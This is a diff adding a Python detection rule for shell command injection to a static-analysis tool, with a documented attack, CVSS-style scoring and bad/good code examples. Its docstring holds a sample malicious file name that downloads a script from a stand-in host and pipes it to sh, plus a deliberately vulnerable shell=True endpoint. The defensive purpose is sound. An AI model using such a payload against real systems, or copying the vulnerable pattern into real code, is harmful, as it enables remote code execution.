@@ -1,0 +1,98 @@
+"""Values that others decide reach a shell."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from whence.rules.data.pipeline.provenance import (
+    doubts,
+    evidence,
+    exposed,
+    only_tests,
+    severity_of,
+    subject,
+    told,
+    who_decides,
+)
+from whence.vocabulary.fact.code import Exposure, ProcessLaunch
+from whence.vocabulary.finding import Confidence, Observation, Severity
+from whence.vocabulary.graph import SupplyGraph
+from whence.vocabulary.rule import rule
+
+
+@rule(severity=Severity.CRITICAL, references=("CWE-78", "CWE-88", "AML.T0011", "OWASP-LLM05:2025"))
+def check(use: ProcessLaunch, graph: SupplyGraph) -> Iterator[Observation]:
+    """A value that others decide is put into the text of a shell command.
+
+    A shell reads `;`, `|`, `$(…)` and backquotes as commands. File names of a downloaded archive,
+    columns of a table and fields of a request may hold them.
+
+    ## Attack
+    Somebody names a file `x; curl evil.example.com | sh #.wav` and uploads it. The job that
+    converts it puts the name into a command line, and the shell runs the rest of the name.
+
+    ## Fix
+    Give the program its arguments as a list, without a shell:
+    ```python
+    subprocess.run(["ffmpeg", "-i", source, "-ar", "16000", target], check=True)
+    ```
+
+    ## Score
+    - AV:N the value comes over the network
+    - AC:L shell characters are enough
+    - PR:N sending a value needs no account on this system
+    - UI:N the job runs by itself
+    - S:U what runs is the process's own account
+    - C:H it reads what the process reads
+    - I:H it changes what the process writes
+    - A:H it can end the process
+
+    ## Bad
+    ```python convert.py
+    import subprocess
+
+    from fastapi import FastAPI, UploadFile
+
+    app = FastAPI()
+
+
+    @app.post("/transcribe")
+    async def transcribe(clip: UploadFile):
+        command = f"ffmpeg -i /uploads/{clip.filename} -ar 16000 out.wav"
+        subprocess.run(command, shell=True, check=True)  # finding
+    ```
+    ## Good
+    ```python convert.py
+    import shlex
+    import subprocess
+
+    from fastapi import FastAPI, UploadFile
+
+    app = FastAPI()
+
+
+    @app.post("/transcribe")
+    async def transcribe(clip: UploadFile):
+        subprocess.run(["ffmpeg", "-i", f"/uploads/{clip.filename}", "out.wav"], check=True)
+        subprocess.run(f"soxi {shlex.quote(clip.filename)}", shell=True, check=True)
+        subprocess.run("nvidia-smi | head -3", shell=True, check=True)
+    ```
+    """
+    if not use.shell or only_tests(use):
+        return
+    for origin in exposed(use, Exposure.UNKNOWN, "quoted", "allow-list"):
+        if origin.exposure is Exposure.UNKNOWN and use.artefact.strip("?") == "":
+            continue
+        weak = origin.exposure <= Exposure.OPERATOR
+        yield Observation(
+            subject=subject(use, origin),
+            message=(
+                f"`{use.callee}` gives {told(origin)} to a shell (`{use.artefact}`):"
+                f" {who_decides(origin)}.{doubts(origin)} Right would be an argument list without"
+                " a shell."
+            ),
+            evidence=evidence(use, origin, f"{use.callee} runs it in a shell"),
+            severity=severity_of(origin),
+            because=who_decides(origin),
+            confidence=Confidence.MEDIUM if weak else Confidence.HIGH,
+        )
